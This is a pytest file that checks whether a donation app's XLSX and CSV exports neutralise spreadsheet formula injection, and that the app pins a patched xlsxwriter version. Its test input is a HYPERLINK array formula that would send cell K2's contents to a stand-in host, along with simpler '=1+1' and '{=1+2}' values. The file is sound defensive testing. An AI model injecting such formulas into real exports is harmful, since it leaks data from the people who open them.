"""Issue 13, finding 3: nothing a worker, organizer or admin typed becomes a formula in a file
the finance office opens. `{=…}` is an array formula to xlsxwriter before 3.3.1 whatever
`strings_to_formulas` says, so every text cell is written as a string, a leading `{` is defused
like `=`, and the dependency requires a safe xlsxwriter."""

from __future__ import annotations

import csv
import io
import re
import tomllib
import zipfile
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.admin.helpers import bearer, pay, seed
from tests.helpers import Api

ARRAY_FORMULA = '{=HYPERLINK("http://x.example/?"&K2,"查看")}'
_FORMULA = re.compile(rb"<f[ >]")
_OUR_ID = re.compile(r'="[0-9A-Z]+"')


@pytest.fixture
def seeded(api: Api, session: Any) -> dict[str, str]:
    return seed(api, session)


def _no_formula_anywhere(workbook: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(workbook)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert not _FORMULA.search(book.read(name)), name


def _rows(workbook: bytes) -> list[tuple[Any, ...]]:
    return list(load_workbook(io.BytesIO(workbook), read_only=True).active
                .iter_rows(values_only=True))


def _rename(api: Api, admin: str, unit: str, name: str) -> None:
    reply = api.client.patch(f"/admin/api/units/{unit}", headers=bearer(admin),
                             json={"name": name})
    assert reply.status_code == 200, reply.get_json()


def test_an_array_formula_in_a_message_stays_text(api: Api, seeded: dict[str, str]) -> None:
    paid = pay(api, "mallory", "DX-XF", message=ARRAY_FORMULA)
    workbook = api.get("/admin/export/donations.xlsx", seeded["admin"]).data
    _no_formula_anywhere(workbook)
    row = next(r for r in _rows(workbook) if r[0] == paid)
    assert row[9] == "'" + ARRAY_FORMULA
    text = api.get("/admin/export/donations.csv", seeded["admin"]).data.decode("utf-8-sig")
    as_csv = next(r for r in csv.reader(io.StringIO(text)) if paid in r[0])
    assert as_csv[9] == "'" + ARRAY_FORMULA


def test_unit_and_campaign_names_stay_text_in_every_report_file(
        api: Api, seeded: dict[str, str]) -> None:
    admin = seeded["admin"]
    _rename(api, admin, "DX", ARRAY_FORMULA)
    _rename(api, admin, "HC-A", "=1+1")
    renamed = api.client.patch("/admin/api/campaigns/one-yuan", headers=bearer(admin),
                               json={"name": "{=1+2}"})
    assert renamed.status_code == 200
    for path in ("/admin/export/donations.xlsx", "/admin/export/units-report.xlsx",
                 "/admin/export/units-report.xlsx?unit=DX"):
        workbook = api.get(path, admin).data
        _no_formula_anywhere(workbook)
        texts = [c for r in _rows(workbook) for c in r if isinstance(c, str)]
        assert not [c for c in texts if c.startswith(("=", "{", "+", "-", "@"))], path
        assert any(ARRAY_FORMULA in c for c in texts) or path.startswith("/admin/export/d")
    for path in ("/admin/export/donations.csv", "/admin/export/units-report.csv?unit=DX"):
        text = api.get(path, admin).data.decode("utf-8-sig")
        cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
        # ="…" is ours: an order number Excel keeps as text.
        assert not [c for c in cells if c.startswith(("=", "{", "+", "-", "@"))
                    and not _OUR_ID.fullmatch(c)], path
        assert "'{=1+2}" in cells or "'" + ARRAY_FORMULA in cells, path


def test_a_safe_xlsxwriter_is_required_and_installed() -> None:
    pyproject = tomllib.loads((Path(__file__).parents[2] / "pyproject.toml").read_text())
    assert "xlsxwriter>=3.3.1" in pyproject["project"]["dependencies"]
    assert tuple(int(p) for p in version("xlsxwriter").split(".")[:3]) >= (3, 3, 1)
